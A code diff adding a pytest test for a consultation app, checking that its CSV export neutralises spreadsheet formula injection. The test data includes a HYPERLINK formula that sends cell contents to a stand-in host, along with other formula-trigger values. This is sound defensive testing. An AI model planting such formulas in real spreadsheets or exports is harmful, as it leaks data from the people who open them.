@@ -1,5 +1,7 @@
 """Editors: responses in the admin, results, CSV and JSON exports."""
 
+import csv
+import io
 import json
 
 import pytest
@@ -100,3 +102,24 @@ def test_editors_list_filter_and_mark_responses(client, editor, consultation, re
     assert stored.status == "published"
     # Responses come only from residents.
     assert client.get(reverse("consultation_responses:add")).status_code in (302, 403)
+
+
+def test_csv_export_neutralises_spreadsheet_formulas(consultation, responses):
+    formula = '=HYPERLINK("http://example.org/?x="&A1,"x")'
+    question = responses.questions["Jedno słowo"].id
+    Response.objects.create(
+        page=consultation,
+        translation_key=consultation.translation_key,
+        language="pl",
+        answers={question: "@SUM(1+1)"},
+        comments={responses.sections[0]: "-2+3"},
+        consent_at=timezone.now(),
+        name=formula,
+        organisation="\tTab",
+    )
+    rows = list(csv.reader(io.StringIO(responses_csv(consultation).lstrip("\ufeff"))))
+    row = next(r for r in rows if formula in "".join(r))
+    assert "'" + formula in row
+    assert "'@SUM(1+1)" in row and "'-2+3" in row and "'\tTab" in row
+    assert any("Zofia Nowak" in r for r in rows)  # ordinary text stays as typed
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for r in rows for cell in r)
